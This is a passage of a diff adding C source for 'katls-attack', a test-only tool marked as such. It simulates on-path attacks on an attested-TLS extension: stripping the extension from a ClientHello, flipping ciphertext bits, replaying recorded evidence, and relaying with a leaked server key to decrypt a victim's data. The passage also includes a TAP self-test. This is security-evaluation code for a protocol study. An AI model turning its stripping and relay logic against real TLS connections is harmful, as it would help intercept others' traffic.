+		gnutls_rnd(GNUTLS_RND_NONCE, rep.outblob, rep.outblob_len);
+		ret = put_evidence(x, buf, rep.type, rep.outblob,
+				   rep.outblob_len, NULL, 0);
+	} else {
+		sfail(x, "unknown attack %s", a);
+		ret = GNUTLS_E_INTERNAL_ERROR;
+	}
+	katls_tsm_report_free(&rep);
+	return ret;
+}
+
+/* TLS record layer, for the attacks that do not hold any key. */
+static ssize_t read_full(int fd, uint8_t *p, size_t n)
+{
+	size_t got = 0;
+
+	while (got < n) {
+		ssize_t r = read(fd, p + got, n - got);
+
+		if (r <= 0)
+			return r < 0 ? -1 : (ssize_t)got;
+		got += r;
+	}
+	return got;
+}
+
+static int write_full(int fd, const uint8_t *p, size_t n)
+{
+	while (n) {
+		ssize_t w = write(fd, p, n);
+
+		if (w <= 0)
+			return -1;
+		p += w;
+		n -= w;
+	}
+	return 0;
+}
+
+/* Read one TLS record (header + body, body at most 2^14 + 256). */
+static ssize_t read_record(int fd, uint8_t *rec, size_t cap)
+{
+	size_t len;
+
+	if (read_full(fd, rec, 5) != 5)
+		return -1;
+	len = (size_t)rec[3] << 8 | rec[4];
+	if (len > 16384 + 256 || len + 5 > cap)
+		return -1;
+	if (read_full(fd, rec + 5, len) != (ssize_t)len)
+		return -1;
+	return len + 5;
+}
+
+/*
+ * Remove the katls extension from a ClientHello record in place.
+ * Returns the new record length, or -1 if the record is not a lone
+ * ClientHello with that extension.  Every length is checked.
+ */
+static ssize_t strip_extension(uint8_t *r, size_t n)
+{
+	size_t p = 5 + 4, hs_len, ext_start, ext_len, end;
+
+	if (n < p || r[0] != 22 || r[5] != 1)
+		return -1;
+	hs_len = (size_t)r[6] << 16 | r[7] << 8 | r[8];
+	if (hs_len + 9 != n)
+		return -1;
+	p += 2 + 32;					/* version, random */
+	if (p >= n)
+		return -1;
+	p += 1 + r[p];					/* session id */
+	if (p + 2 > n)
+		return -1;
+	p += 2 + ((size_t)r[p] << 8 | r[p + 1]);	/* cipher suites */
+	if (p >= n)
+		return -1;
+	p += 1 + r[p];					/* compression */
+	if (p + 2 > n)
+		return -1;
+	ext_len = (size_t)r[p] << 8 | r[p + 1];
+	ext_start = p;
+	p += 2;
+	end = p + ext_len;
+	if (end != n)
+		return -1;
+	while (p + 4 <= end) {
+		unsigned int type = r[p] << 8 | r[p + 1];
+		size_t l = (size_t)r[p + 2] << 8 | r[p + 3];
+
+		if (p + 4 + l > end)
+			return -1;
+		if (type == KATLS_EXT_TYPE) {
+			size_t cut = 4 + l;
+
+			memmove(r + p, r + p + cut, n - p - cut);
+			n -= cut;
+			ext_len -= cut;
+			r[ext_start] = ext_len >> 8;
+			r[ext_start + 1] = ext_len;
+			hs_len -= cut;
+			r[6] = hs_len >> 16;
+			r[7] = hs_len >> 8;
+			r[8] = hs_len;
+			r[3] = (n - 5) >> 8;
+			r[4] = n - 5;
+			return n;
+		}
+		p += 4 + l;
+	}
+	return -1;
+}
+
+/*
+ * On-path attacker without any key: forward C <-> A record by record,
+ * stripping the ClientHello extension ("strip") or flipping one bit in
+ * the first encrypted record from A, which holds EncryptedExtensions
+ * ("flip-ee").  Returns when either side closes.
+ */
+static int run_forwarder(int cfd)
+{
+	static uint8_t rec[16384 + 256 + 5];
+	bool flipped = false;
+	ssize_t n;
+	int afd = tcp_connect(opt.upstream);
+
+	if (afd < 0)
+		result_fail("cannot reach the attester");
+	n = read_record(cfd, rec, sizeof(rec));
+	if (n < 0)
+		result_fail("no ClientHello from the victim");
+	if (!strcmp(opt.attack, "strip")) {
+		n = strip_extension(rec, n);
+		if (n < 0)
+			result_fail("ClientHello has no katls extension to strip");
+		printf("M: stripped the katls extension from the ClientHello\n");
+	}
+	if (write_full(afd, rec, n))
+		result_fail("forward ClientHello");
+	for (;;) {
+		struct pollfd p[2] = { { .fd = cfd, .events = POLLIN },
+				       { .fd = afd, .events = POLLIN } };
+
+		if (poll(p, 2, 20000) <= 0)
+			break;
+		if (p[0].revents) {
+			n = read_record(cfd, rec, sizeof(rec));
+			if (n < 0 || write_full(afd, rec, n))
+				break;
+		}
+		if (p[1].revents) {
+			n = read_record(afd, rec, sizeof(rec));
+			if (n < 0)
+				break;
+			if (!strcmp(opt.attack, "flip-ee") && !flipped &&
+			    rec[0] == 23 && n > 5 + 20) {
+				/* Change a byte of the evidence ciphertext. */
+				rec[5 + 20] ^= 0x01;
+				flipped = true;
+				printf("M: flipped a bit in the encrypted EncryptedExtensions\n");
+			}
+			if (write_full(cfd, rec, n))
+				break;
+		}
+	}
+	close(afd);
+	/* Without a key M never sees plaintext, whatever happened. */
+	result_fail("no key: C's traffic cannot be decrypted");
+}
+
+static int run_relay(void)
+{
+	gnutls_certificate_credentials_t creds;
+	struct sess *x = calloc(1, sizeof(*x));
+	gnutls_session_t s;
+	char buf[512];
+	int lfd, fd, ret;
+
+	prog_role = "M";
+	if (!x)
+		return 1;
+	if (!strcmp(opt.attack, "replay")) {
+		/* An earlier, genuine handshake with A, with its own nonce. */
+		struct katls_ext_request r = {
+			.version = KATLS_EXT_VERSION,
+			.mode = KATLS_EXT_MODE_BINDER_V1, .ntypes = 1,
+			.types = { KATLS_EVIDENCE_SIM },
+		};
+		uint8_t raw[KATLS_EXT_REQUEST_MAX];
+		char why[300];
+		int n;
+
+		gnutls_rnd(GNUTLS_RND_NONCE, r.nonce, sizeof(r.nonce));
+		n = katls_ext_request_encode(&r, raw, sizeof(raw));
+		if (n <= 0 || fetch_from_attester(raw, n, NULL, recorded,
+						  &recorded_len, why,
+						  sizeof(why)))
+			result_fail("recording evidence: %s", why);
+		printf("M: recorded %zu bytes of evidence from an earlier handshake\n",
+		       recorded_len);
+	}
+	lfd = tcp_listen(opt.port);
+	printf("M: listening\n");
+	fflush(stdout);
+	fd = accept(lfd, NULL, NULL);
+	if (fd < 0)
+		result_fail("accept: %s", strerror(errno));
+	if (!strcmp(opt.attack, "strip") || !strcmp(opt.attack, "flip-ee"))
+		return run_forwarder(fd);
+
+	/* M holds the attested server's leaked key. */
+	creds = server_creds(opt.cert, opt.key);
+	x->binding = opt.binding;
+	x->ee_send = relay_ee_send;
+	victim_side = x;
+	s = new_session(x, true, fd, RELAY_PRIORITY, creds);
+	gnutls_certificate_server_set_request(s, GNUTLS_CERT_IGNORE);
+	ret = handshake(s);
+	if (ret < 0)
+		result_fail("handshake with the victim: %s", hs_error(x, s, ret));
+	/* The verdict: can M read what C sends? */
+	ret = gnutls_record_recv(s, buf, sizeof(buf) - 1);
+	if (ret <= 0)
+		result_fail("victim sent no application data (%s)",
+			    ret ? gnutls_strerror(ret) : "closed");
+	buf[ret] = 0;
+	gnutls_record_send(s, "ack\n", 4);
+	printf("M: decrypted: %s\n", buf);
+	gnutls_bye(s, GNUTLS_SHUT_WR);
+	gnutls_deinit(s);
+	close(fd);
+	close(lfd);
+	gnutls_certificate_free_credentials(creds);
+	free(x);
+	return 0;
+}
+
+/*
+ * Self-test of the parts that run without a TEE: the ClientHello
+ * extension stripper on a synthetic record, and the early exporter's
+ * dependence on every ClientHello byte.  TAP.
+ */
+static int selftest(void)
+{
+	/* ClientHello: version, random, sid 0, 1 suite, 1 compression,
+	 * extensions: 0x002b (2 bytes) and 0xff4b (3 bytes). */
+	static const uint8_t body[] = {
+		0x03, 0x03, [2 ... 33] = 0xaa, 0x00, 0x00, 0x02, 0x13, 0x01,
+		0x01, 0x00, 0x00, 0x0d, 0x00, 0x2b, 0x00, 0x02, 0x03, 0x04,
+		0xff, 0x4b, 0x00, 0x03, 0x01, 0x02, 0x03,
+	};
+	uint8_t rec[128], ex1[64], ex2[64];
+	size_t n = sizeof(body) + 9;
+	ssize_t m;
+	int fails = 0, t = 0;
+
+	printf("TAP version 13\n1..5\n");
+	rec[0] = 22;
+	rec[1] = 3;
+	rec[2] = 1;
+	rec[3] = (n - 5) >> 8;
+	rec[4] = n - 5;
+	rec[5] = 1;
+	rec[6] = 0;
+	rec[7] = sizeof(body) >> 8;
+	rec[8] = sizeof(body) & 0xff;
+	memcpy(rec + 9, body, sizeof(body));
+#define T(c, name) do { t++; if (!(c)) fails++; \
+	printf("%sok %d - %s\n", (c) ? "" : "not ", t, name); } while (0)
+	T(early_exporter(rec + 5, n - 5, ex1) == 0, "early exporter computes");
+	rec[20] ^= 1;
+	T(early_exporter(rec + 5, n - 5, ex2) == 0 && memcmp(ex1, ex2, 64),
+	  "early exporter depends on the ClientHello random");
+	rec[20] ^= 1;
+	m = strip_extension(rec, n);
+	T(m == (ssize_t)n - 7 && rec[4] == (uint8_t)(m - 5) &&
+	  rec[8] == sizeof(body) - 7 && rec[m - 1] == 0x04 &&
+	  rec[m - 5] == 0x2b && rec[m - 8] == 0x00 && rec[m - 7] == 0x06,
+	  "strip removes exactly the katls extension and fixes 3 lengths");
+	T(strip_extension(rec, m) == -1, "stripping twice finds nothing");
+	T(strip_extension(rec, m - 1) == -1, "truncated record rejected");
+#undef T
+	return fails ? 1 : 0;
+}
+
+static void usage(FILE *f)
+{
+	fprintf(f,
+"usage: katls-attack server --binding B --port P --cert C --key K\n"
+"       katls-attack client --binding B --port P --ca C --policy F --secret S\n"
+"       katls-attack relay --binding B --port P --upstream Q --cert C --key K\n"
+"                          [--attack A] [--other-cert C] [--sample F]\n"
+"TEST ONLY.  B: 1..7 (the paper's bindings) or katls (binder v1).\n"
+"A (relay): relay (default), replay, no-evidence, strip, flip-ee, self,\n"
+"  label-tdx, tdx-sample, truncated, oversized, huge, garbage, wrong-key,\n"
+"  debug.\n");
+}
+
+int main(int argc, char **argv)
+{
+	static const struct option lo[] = {
+		{ "binding", 1, NULL, 'b' }, { "port", 1, NULL, 'p' },
+		{ "upstream", 1, NULL, 'u' }, { "cert", 1, NULL, 'c' },
+		{ "key", 1, NULL, 'k' }, { "ca", 1, NULL, 'a' },
+		{ "policy", 1, NULL, 'P' }, { "secret", 1, NULL, 's' },
+		{ "attack", 1, NULL, 'x' }, { "other-cert", 1, NULL, 'o' },
+		{ "sample", 1, NULL, 'S' }, { "help", 0, NULL, 'h' },
+		{ NULL, 0, NULL, 0 },
+	};
+	int c, ret;
+
+	if (argc < 2) {
+		usage(stderr);
+		return 2;
+	}
+	if (!strcmp(argv[1], "selftest"))
+		return selftest();
+	opt.mode = argv[1];
+	opt.attack = "relay";
+	optind = 2;
+	while ((c = getopt_long(argc, argv, "h", lo, NULL)) != -1) {
+		switch (c) {
+		case 'b':
+			for (size_t i = 1; i <= B_KATLS; i++)
+				if (!strcmp(optarg, binding_names[i]))
+					opt.binding = i;
+			break;
+		case 'p': opt.port = strtoul(optarg, NULL, 10); break;
+		case 'u': opt.upstream = strtoul(optarg, NULL, 10); break;
+		case 'c': opt.cert = optarg; break;
+		case 'k': opt.key = optarg; break;
+		case 'a': opt.ca = optarg; break;
+		case 'P': opt.policy = optarg; break;
+		case 's': opt.secret = optarg; break;
+		case 'x': opt.attack = optarg; break;
+		case 'o': opt.other_cert = optarg; break;
+		case 'S': opt.sample = optarg; break;
+		case 'h': usage(stdout); return 0;
+		default: usage(stderr); return 2;
+		}
+	}
+	if (opt.binding == B_NONE || !opt.port || opt.port > 65535 ||
+	    opt.upstream > 65535) {
+		usage(stderr);
+		return 2;
+	}
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	gnutls_global_init();
+	if (!strcmp(opt.mode, "server") && opt.cert && opt.key)
+		ret = run_server();
+	else if (!strcmp(opt.mode, "client") && opt.ca && opt.policy &&
+		 opt.secret)
+		ret = run_client();
+	else if (!strcmp(opt.mode, "relay") && opt.upstream && opt.cert &&
+		 opt.key && (strcmp(opt.attack, "tdx-sample") || opt.sample))
+		ret = run_relay();
+	else {
+		usage(stderr);
+		ret = 2;
+	}
+	gnutls_global_deinit();
+	return ret;
+}
